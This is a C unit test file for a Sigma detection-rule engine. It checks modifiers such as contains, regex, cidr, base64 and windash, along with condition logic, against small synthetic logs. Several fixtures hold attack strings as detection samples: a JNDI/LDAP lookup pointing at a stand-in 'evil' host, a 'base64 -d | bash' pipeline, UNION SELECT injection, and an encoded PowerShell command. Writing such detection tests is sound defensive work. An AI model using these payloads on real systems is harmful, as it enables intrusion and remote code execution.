/* Every value modifier and condition form of Sigma against tiny logs with
 * known answers. Rules are compiled without a logsource mapping (every rule
 * applies to every log, field names used as written). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "detect_test_util.h"

/* Compiles one rule whose `detection:` body is `det` (YAML, indented by 2). */
static struct detect_set *rule_set(const char *det, const char *placeholders)
{
    struct tdir d;
    tdir_init(&d);
    char *text = NULL;
    size_t len = 0;
    FILE *m = open_memstream(&text, &len);
    fprintf(m, "title: test rule\nid: r1\nlogsource:\n  category: firewall\ndetection:\n%s\n", det);
    fclose(m);
    tdir_write(&d, "r.yml", text);
    free(text);
    char ph[128] = "";
    if (placeholders) {
        tdir_write(&d, "placeholders.yaml", placeholders);
        snprintf(ph, sizeof(ph), "%s/placeholders.yaml", d.path);
    }
    const char *paths[] = {d.path};
    struct detect_config cfg = {.rule_paths = paths, .rule_path_count = 1,
                                .placeholders_path = placeholders ? ph : NULL};
    struct detect_set *set = NULL;
    struct detect_reports rep = {0};
    struct ym_error err;
    memset(&err, 0, sizeof(err));
    assert_int_equal(detect_set_compile(&cfg, &set, &rep, &err), YM_OK);
    if (rep.count != 1 || rep.v[0].status != DETECT_RULE_OK)
        fail_msg("rule did not load: %s: %s", rep.count ? detect_rule_status_name(rep.v[0].status) : "-",
                 rep.count ? rep.v[0].reason : "no report");
    detect_reports_free(&rep);
    tdir_fini(&d);
    return set;
}

static int fires(struct detect_set *set, struct tlog *t)
{
    struct detect_scratch *s = detect_scratch_create(set);
    struct hits h = {0};
    int n = detect_set_match(set, s, &t->rec, collect, &h);
    assert_int_equal(n, h.count);
    detect_scratch_destroy(s);
    return n;
}

/* One field, one value: does `field: value` (rule) fire on the log value? */
static int field_fires(const char *det, const char *field, const char *value)
{
    struct detect_set *set = rule_set(det, NULL);
    struct tlog t;
    tlog_init(&t, "raw");
    tlog_add(&t, field, value);
    int n = fires(set, &t);
    tlog_fini(&t);
    detect_set_unref(set);
    return n;
}

#define SEL(x) "  sel:\n    " x "\n  condition: sel"

static void plain_value_matches_whole_field_ignoring_case(void **st)
{
    assert_int_equal(field_fires(SEL("event.action: Deny"), "event.action", "deny"), 1);
    assert_int_equal(field_fires(SEL("event.action: Deny"), "event.action", "denyall"), 0);
    assert_int_equal(field_fires(SEL("event.action: deny"), "event.action", "DENY"), 1);
}

static void contains_startswith_endswith(void **st)
{
    assert_int_equal(field_fires(SEL("url.original|contains: union select"), "url.original", "/a?id=1 UNION SELECT x"), 1);
    assert_int_equal(field_fires(SEL("url.original|contains: union select"), "url.original", "/a?id=1"), 0);
    assert_int_equal(field_fires(SEL("url.original|startswith: /admin"), "url.original", "/admin/x"), 1);
    assert_int_equal(field_fires(SEL("url.original|startswith: /admin"), "url.original", "/x/admin"), 0);
    assert_int_equal(field_fires(SEL("url.original|endswith: .php"), "url.original", "/shell.PHP"), 1);
    assert_int_equal(field_fires(SEL("url.original|endswith: .php"), "url.original", "/shell.php?x"), 0);
}

static void wildcards_and_escapes(void **st)
{
    assert_int_equal(field_fires(SEL("f: 'a*c'"), "f", "abbbc"), 1);
    assert_int_equal(field_fires(SEL("f: 'a?c'"), "f", "abc"), 1);
    assert_int_equal(field_fires(SEL("f: 'a?c'"), "f", "abbc"), 0);
    assert_int_equal(field_fires(SEL("f: 'a\\*c'"), "f", "a*c"), 1);
    assert_int_equal(field_fires(SEL("f: 'a\\*c'"), "f", "abc"), 0);
    /* Sigma: a backslash before a wildcard is written \\ (the rule text C:\Windows\\*) */
    assert_int_equal(field_fires(SEL("f: 'C:\\Windows\\\\*'"), "f", "c:\\windows\\system32"), 1);
    assert_int_equal(field_fires(SEL("f: 'C:\\Windows\\*'"), "f", "c:\\windows\\system32"), 0);
    assert_int_equal(field_fires(SEL("f: 'C:\\Windows\\*'"), "f", "c:\\windows*"), 1);
    assert_int_equal(field_fires(SEL("f: '*'"), "f", "anything"), 1);
}

static void list_is_or_and_all_is_and(void **st)
{
    assert_int_equal(field_fires(SEL("f|contains: [aaa, bbb]"), "f", "xx bbb"), 1);
    assert_int_equal(field_fires(SEL("f|contains|all: [aaa, bbb]"), "f", "xx bbb"), 0);
    assert_int_equal(field_fires(SEL("f|contains|all: [aaa, bbb]"), "f", "bbb aaa"), 1);
}

static void regex_is_case_sensitive_unless_i(void **st)
{
    assert_int_equal(field_fires(SEL("f|re: 'sel[e]ct\\s+\\d'"), "f", "x select 1"), 1);
    assert_int_equal(field_fires(SEL("f|re: 'sel[e]ct\\s+\\d'"), "f", "x SELECT 1"), 0);
    assert_int_equal(field_fires(SEL("f|re|i: 'sel[e]ct\\s+\\d'"), "f", "x SELECT 1"), 1);
    assert_int_equal(field_fires(SEL("f|re|m: '^b$'"), "f", "a\nb\nc"), 1);
    assert_int_equal(field_fires(SEL("f|re: '^b$'"), "f", "a\nb\nc"), 0);
    assert_int_equal(field_fires(SEL("f|re|s: 'a.b'"), "f", "a\nb"), 1);
    assert_int_equal(field_fires(SEL("f|re: 'a.b'"), "f", "a\nb"), 0);
    /* Lookbehind: not for Vectorscan, still matched by PCRE2. */
    assert_int_equal(field_fires(SEL("f|re: '(?<=x)y'"), "f", "xy"), 1);
    assert_int_equal(field_fires(SEL("f|re: '(?<=x)y'"), "f", "zy"), 0);
}

static void cidr_v4_and_v6(void **st)
{
    assert_int_equal(field_fires(SEL("source.ip|cidr: 10.0.0.0/8"), "source.ip", "10.1.2.3"), 1);
    assert_int_equal(field_fires(SEL("source.ip|cidr: 10.0.0.0/8"), "source.ip", "11.1.2.3"), 0);
    assert_int_equal(field_fires(SEL("source.ip|cidr: 192.168.1.128/25"), "source.ip", "192.168.1.200"), 1);
    assert_int_equal(field_fires(SEL("source.ip|cidr: 192.168.1.128/25"), "source.ip", "192.168.1.100"), 0);
    assert_int_equal(field_fires(SEL("source.ip|cidr: '2001:db8::/32'"), "source.ip", "2001:db8:1::5"), 1);
    assert_int_equal(field_fires(SEL("source.ip|cidr: '2001:db8::/32'"), "source.ip", "2001:db9::5"), 0);
}

static void base64_and_base64offset(void **st)
{
    /* base64("/bin/sh") = L2Jpbi9zaA== */
    assert_int_equal(field_fires(SEL("f|base64: /bin/sh"), "f", "L2Jpbi9zaA=="), 1);
    assert_int_equal(field_fires(SEL("f|base64|contains: /bin/sh"), "f", "x L2Jpbi9zaA== y"), 1);
    /* base64("ab/bin/sh") = YWIvYmluL3No; offset 2 variant: "vYmluL3"? any of 3 shifts */
    assert_int_equal(field_fires(SEL("f|base64offset|contains: /bin/sh"), "f", "YWIvYmluL3No"), 1);
    assert_int_equal(field_fires(SEL("f|base64offset|contains: /bin/sh"), "f", "YS9iaW4vc2g="), 1);
    assert_int_equal(field_fires(SEL("f|base64offset|contains: /bin/sh"), "f", "L2Jpbi9zaA=="), 1);
    assert_int_equal(field_fires(SEL("f|base64offset|contains: /bin/sh"), "f", "aGVsbG8="), 0);
}

static void utf16_encodings(void **st)
{
    struct tlog t;
    struct { const char *mod; const char bytes[10]; size_t n; } cases[] = {
        {"utf16le", {'c', 0, 'm', 0, 'd', 0}, 6},
        {"wide", {'c', 0, 'm', 0, 'd', 0}, 6},
        {"utf16be", {0, 'c', 0, 'm', 0, 'd'}, 6},
        {"utf16", {(char)0xFF, (char)0xFE, 'c', 0, 'm', 0, 'd', 0}, 8},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char det[128];
        snprintf(det, sizeof(det), "  sel:\n    f|%s|contains: cmd\n  condition: sel", cases[i].mod);
        struct detect_set *set = rule_set(det, NULL);
        tlog_init(&t, "");
        char v[16] = "xx";
        memcpy(v + 2, cases[i].bytes, cases[i].n);
        ym_fields_add_copy(&t.rec.fields, YM_FIELD_DYNAMIC, "f", v, cases[i].n + 2);
        assert_int_equal(fires(set, &t), 1);
        tlog_fini(&t);
        tlog_init(&t, "");
        tlog_add(&t, "f", "cmd");
        assert_int_equal(fires(set, &t), 0);
        tlog_fini(&t);
        detect_set_unref(set);
    }
}

static void windash_matches_every_dash(void **st)
{
    const char *det = SEL("f|windash|contains: ' -enc '");
    assert_int_equal(field_fires(det, "f", "powershell -enc AAA"), 1);
    assert_int_equal(field_fires(det, "f", "powershell /enc AAA"), 1);
    assert_int_equal(field_fires(det, "f", "powershell \xE2\x80\x93" "enc AAA"), 1);
    assert_int_equal(field_fires(det, "f", "powershell +enc AAA"), 0);
}

static void exists_true_and_false(void **st)
{
    assert_int_equal(field_fires(SEL("user.name|exists: true"), "user.name", "bob"), 1);
    assert_int_equal(field_fires(SEL("user.name|exists: true"), "other", "bob"), 0);
    assert_int_equal(field_fires(SEL("user.name|exists: false"), "other", "bob"), 1);
    assert_int_equal(field_fires(SEL("user.name|exists: false"), "user.name", "bob"), 0);
}

static void numeric_comparisons(void **st)
{
    struct { const char *det; int64_t v; int want; } c[] = {
        {SEL("destination.port|gt: 1024"), 1025, 1}, {SEL("destination.port|gt: 1024"), 1024, 0},
        {SEL("destination.port|gte: 1024"), 1024, 1}, {SEL("destination.port|lt: 1024"), 1023, 1},
        {SEL("destination.port|lt: 1024"), 1024, 0}, {SEL("destination.port|lte: 1024"), 1024, 1},
    };
    for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
        struct detect_set *set = rule_set(c[i].det, NULL);
        struct tlog t;
        tlog_init(&t, "");
        tlog_add_int(&t, "destination.port", c[i].v);
        assert_int_equal(fires(set, &t), c[i].want);
        tlog_fini(&t);
        detect_set_unref(set);
    }
    /* numbers given as text count too */
    assert_int_equal(field_fires(SEL("sc-bytes|gt: 100"), "sc-bytes", "150"), 1);
    /* a plain number matches an integer field */
    struct detect_set *set = rule_set(SEL("destination.port: 445"), NULL);
    struct tlog t;
    tlog_init(&t, "");
    tlog_add_int(&t, "destination.port", 445);
    assert_int_equal(fires(set, &t), 1);
    tlog_fini(&t);
    detect_set_unref(set);
}

static void fieldref_compares_two_fields(void **st)
{
    struct detect_set *set = rule_set(SEL("source.ip|fieldref: destination.ip"), NULL);
    struct tlog t;
    tlog_init(&t, "");
    tlog_add(&t, "source.ip", "10.0.0.1");
    tlog_add(&t, "destination.ip", "10.0.0.1");
    assert_int_equal(fires(set, &t), 1);
    tlog_fini(&t);
    tlog_init(&t, "");
    tlog_add(&t, "source.ip", "10.0.0.1");
    tlog_add(&t, "destination.ip", "10.0.0.2");
    assert_int_equal(fires(set, &t), 0);
    tlog_fini(&t);
    detect_set_unref(set);
}

static void expand_uses_placeholders_file(void **st)
{
    const char *ph = "admins:\n  - root\n  - admin\n";
    struct detect_set *set = rule_set(SEL("user.name|expand: '%admins%'"), ph);
    struct tlog t;
    tlog_init(&t, "");
    tlog_add(&t, "user.name", "ADMIN");
    assert_int_equal(fires(set, &t), 1);
    tlog_fini(&t);
    tlog_init(&t, "");
    tlog_add(&t, "user.name", "bob");
    assert_int_equal(fires(set, &t), 0);
    tlog_fini(&t);
    detect_set_unref(set);
}

static void cased_is_case_sensitive(void **st)
{
    assert_int_equal(field_fires(SEL("f|cased: Secret"), "f", "Secret"), 1);
    assert_int_equal(field_fires(SEL("f|cased: Secret"), "f", "secret"), 0);
    assert_int_equal(field_fires(SEL("f|contains|cased: Secret"), "f", "my Secret x"), 1);
}

static void null_means_missing_or_empty(void **st)
{
    assert_int_equal(field_fires(SEL("user.name: null"), "other", "x"), 1);
    assert_int_equal(field_fires(SEL("user.name: null"), "user.name", ""), 1);
    assert_int_equal(field_fires(SEL("user.name: null"), "user.name", "bob"), 0);
    /* a JSON null kept by the json decoder is null */
    struct detect_set *set = rule_set(SEL("user.name: null"), NULL);
    struct tlog t;
    tlog_init(&t, "");
    struct ym_field *f = ym_fields_add(&t.rec.fields, parse_ecs_lookup("user.name", 9), "user.name", "null", 4);
    f->type = YM_FT_JSON;
    assert_int_equal(fires(set, &t), 1);
    tlog_fini(&t);
    detect_set_unref(set);
    /* a quoted 'null' is the text null */
    assert_int_equal(field_fires(SEL("user.name: 'null'"), "user.name", "null"), 1);
}

static void neq_inverts(void **st)
{
    assert_int_equal(field_fires(SEL("f|neq: a"), "f", "b"), 1);
    assert_int_equal(field_fires(SEL("f|neq: a"), "f", "a"), 0);
}

static void keywords_match_anywhere_in_raw_log(void **st)
{
    struct detect_set *set = rule_set("  keywords:\n    - 'jndi:ldap'\n    - 'jndi:rmi'\n  condition: keywords", NULL);
    struct tlog t;
    tlog_init(&t, "GET /?x=${JNDI:LDAP://evil/a} HTTP/1.1");
    assert_int_equal(fires(set, &t), 1);
    tlog_fini(&t);
    tlog_init(&t, "GET /index.html HTTP/1.1");
    assert_int_equal(fires(set, &t), 0);
    tlog_fini(&t);
    detect_set_unref(set);
}

static void list_of_maps_is_or_and_map_is_and(void **st)
{
    const char *det = "  sel:\n    - a: 1\n      b: 2\n    - c: 3\n  condition: sel";
    struct detect_set *set = rule_set(det, NULL);
    struct tlog t;
    tlog_init(&t, "");
    tlog_add(&t, "a", "1");
    assert_int_equal(fires(set, &t), 0);
    tlog_add(&t, "b", "2");
    assert_int_equal(fires(set, &t), 1);
    tlog_fini(&t);
    tlog_init(&t, "");
    tlog_add(&t, "c", "3");
    assert_int_equal(fires(set, &t), 1);
    tlog_fini(&t);
    detect_set_unref(set);
}

/* Conditions over three selections s1 (a: 1), s2 (b: 2), f (c: 3). */
static int cond_fires(const char *cond, int a, int b, int c)
{
    char det[512];
    snprintf(det, sizeof(det),
             "  sel_1:\n    a: 1\n  sel_2:\n    b: 2\n  filter:\n    c: 3\n  _hidden:\n    d: 4\n  condition: %s", cond);
    struct detect_set *set = rule_set(det, NULL);
    struct tlog t;
    tlog_init(&t, "");
    if (a) tlog_add(&t, "a", "1");
    if (b) tlog_add(&t, "b", "2");
    if (c) tlog_add(&t, "c", "3");
    int n = fires(set, &t);
    tlog_fini(&t);
    detect_set_unref(set);
    return n;
}

static void conditions_and_or_not_parentheses(void **st)
{
    assert_int_equal(cond_fires("sel_1 and sel_2", 1, 1, 0), 1);
    assert_int_equal(cond_fires("sel_1 and sel_2", 1, 0, 0), 0);
    assert_int_equal(cond_fires("sel_1 or sel_2", 0, 1, 0), 1);
    assert_int_equal(cond_fires("sel_1 and not filter", 1, 0, 0), 1);
    assert_int_equal(cond_fires("sel_1 and not filter", 1, 0, 1), 0);
    assert_int_equal(cond_fires("not filter", 0, 0, 0), 1);
    assert_int_equal(cond_fires("not filter", 0, 0, 1), 0);
    assert_int_equal(cond_fires("(sel_1 or sel_2) and not filter", 0, 1, 0), 1);
    assert_int_equal(cond_fires("sel_1 or sel_2 and filter", 1, 0, 0), 1); /* and binds tighter */
    assert_int_equal(cond_fires("(sel_1 or sel_2) and filter", 1, 0, 0), 0);
}

static void conditions_of_patterns_and_them(void **st)
{
    assert_int_equal(cond_fires("1 of sel_*", 0, 1, 0), 1);
    assert_int_equal(cond_fires("1 of sel_*", 0, 0, 1), 0);
    assert_int_equal(cond_fires("all of sel_*", 1, 0, 0), 0);
    assert_int_equal(cond_fires("all of sel_*", 1, 1, 0), 1);
    assert_int_equal(cond_fires("1 of them", 0, 0, 1), 1);
    assert_int_equal(cond_fires("all of them", 1, 1, 1), 1); /* _hidden is not part of them */
    assert_int_equal(cond_fires("all of them", 1, 1, 0), 0);
    assert_int_equal(cond_fires("all of sel_* and not 1 of filter", 1, 1, 0), 1);
    assert_int_equal(cond_fires("2 of them", 1, 0, 1), 1);
    assert_int_equal(cond_fires("2 of them", 0, 0, 1), 0);
    assert_int_equal(cond_fires("sel_1 AND NOT filter", 1, 0, 0), 1); /* operators in any case */
}

static void keywords_all_needs_every_value(void **st)
{
    struct detect_set *set = rule_set("  keywords:\n    '|all':\n      - 'base64 -d'\n      - '| bash'\n  condition: keywords", NULL);
    struct tlog t;
    tlog_init(&t, "echo aGkK | base64 -d | bash");
    assert_int_equal(fires(set, &t), 1);
    tlog_fini(&t);
    tlog_init(&t, "echo aGkK | base64 -d");
    assert_int_equal(fires(set, &t), 0);
    tlog_fini(&t);
    detect_set_unref(set);
}

/* Compiles one rule and returns its report status and line. */
static enum detect_rule_status rule_status(const char *det, int *line)
{
    struct tdir d;
    tdir_init(&d);
    char text[1024];
    snprintf(text, sizeof(text), "title: t\nid: r1\nlogsource:\n  category: firewall\ndetection:\n%s\n", det);
    tdir_write(&d, "r.yml", text);
    const char *paths[] = {d.path};
    struct detect_config cfg = {.rule_paths = paths, .rule_path_count = 1};
    struct detect_set *set = NULL;
    struct detect_reports rep = {0};
    struct ym_error err;
    assert_int_equal(detect_set_compile(&cfg, &set, &rep, &err), YM_OK);
    assert_int_equal(rep.count, 1);
    enum detect_rule_status st = rep.v[0].status;
    *line = rep.v[0].line;
    detect_reports_free(&rep);
    detect_set_unref(set);
    tdir_fini(&d);
    return st;
}

static void malformed_values_are_reported_where_they_are(void **st)
{
    int line;
    assert_int_equal(rule_status("  sel:\n    f|re: 'a(b'\n  condition: sel", &line), DETECT_RULE_ERROR);
    assert_int_equal(line, 7);
    assert_int_equal(rule_status("  sel:\n    f|cidr: 10.0.0.0/33\n  condition: sel", &line), DETECT_RULE_ERROR);
    assert_int_equal(rule_status("  sel:\n    f|gt: ten\n  condition: sel", &line), DETECT_RULE_ERROR);
    assert_int_equal(rule_status("  sel:\n    f|exists: maybe\n  condition: sel", &line), DETECT_RULE_ERROR);
    assert_int_equal(rule_status("  sel:\n    f|base64: 'a*b'\n  condition: sel", &line), DETECT_RULE_UNSUPPORTED);
    assert_int_equal(rule_status("  sel:\n    f|expand: '%nowhere%'\n  condition: sel", &line), DETECT_RULE_UNSUPPORTED);
    assert_int_equal(rule_status("  sel:\n    f: 1\n  condition: sel and (", &line), DETECT_RULE_ERROR);
    assert_int_equal(line, 8);
    assert_int_equal(rule_status("  sel:\n    f: 1\n  condition: 1 of nomatch*", &line), DETECT_RULE_ERROR);
    /* selection names are case-sensitive */
    assert_int_equal(rule_status("  sel:\n    f: 1\n  condition: SEL", &line), DETECT_RULE_ERROR);
}

static void matched_fields_are_reported(void **st)
{
    struct detect_set *set = rule_set("  sel:\n    a: 1\n    b|contains: x\n  condition: sel", NULL);
    struct detect_scratch *s = detect_scratch_create(set);
    struct tlog t;
    tlog_init(&t, "");
    tlog_add(&t, "a", "1");
    tlog_add(&t, "b", "xyz");
    struct hits h = {0};
    assert_int_equal(detect_set_match(set, s, &t.rec, collect, &h), 1);
    assert_string_equal(h.ids[0], "r1");
    assert_string_equal(h.fields, "a,b");
    tlog_fini(&t);
    detect_scratch_destroy(s);
    detect_set_unref(set);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(plain_value_matches_whole_field_ignoring_case),
        cmocka_unit_test(contains_startswith_endswith),
        cmocka_unit_test(wildcards_and_escapes),
        cmocka_unit_test(list_is_or_and_all_is_and),
        cmocka_unit_test(regex_is_case_sensitive_unless_i),
        cmocka_unit_test(cidr_v4_and_v6),
        cmocka_unit_test(base64_and_base64offset),
        cmocka_unit_test(utf16_encodings),
        cmocka_unit_test(windash_matches_every_dash),
        cmocka_unit_test(exists_true_and_false),
        cmocka_unit_test(numeric_comparisons),
        cmocka_unit_test(fieldref_compares_two_fields),
        cmocka_unit_test(expand_uses_placeholders_file),
        cmocka_unit_test(cased_is_case_sensitive),
        cmocka_unit_test(null_means_missing_or_empty),
        cmocka_unit_test(neq_inverts),
        cmocka_unit_test(keywords_match_anywhere_in_raw_log),
        cmocka_unit_test(list_of_maps_is_or_and_map_is_and),
        cmocka_unit_test(conditions_and_or_not_parentheses),
        cmocka_unit_test(conditions_of_patterns_and_them),
        cmocka_unit_test(matched_fields_are_reported),
        cmocka_unit_test(keywords_all_needs_every_value),
        cmocka_unit_test(malformed_values_are_reported_where_they_are),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
